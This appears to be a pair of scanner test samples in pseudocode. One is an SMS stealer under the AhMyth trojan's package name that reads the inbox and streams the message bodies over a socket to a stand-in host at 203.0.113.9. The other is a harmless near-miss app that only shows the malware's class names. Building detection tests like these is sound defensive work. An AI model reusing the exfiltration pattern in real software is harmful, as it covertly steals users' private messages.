app(package="ahmyth.mine.king.ahmyth")
permissions("READ_SMS", "INTERNET")

@service
class MainService(Service):
    def onStartCommand(self, intent, flags, number):
        SMSManager().send(self.getContentResolver())
        return 1

class SMSManager:
    def send(self, content: ContentResolver):
        rows = content.query(Uri.parse("content://sms/inbox"), None, None, None, None)
        out = Socket("203.0.113.9", 42474).getOutputStream()
        while rows.moveToNext():
            out.write(rows.getString(2).getBytes())

# near miss: a scanner, which has the names of the classes in its list
app(package="org.example.sample")

@service
class MainService(Service):
    def onStartCommand(self, intent, flags, number):
        Toast.makeText(self, "Lahmyth/mine/king/ahmyth/MainService;", 1).show()
        Toast.makeText(self, "Lahmyth/mine/king/ahmyth/SMSManager;", 1).show()
        return 1

class SMSManager:
    last: String
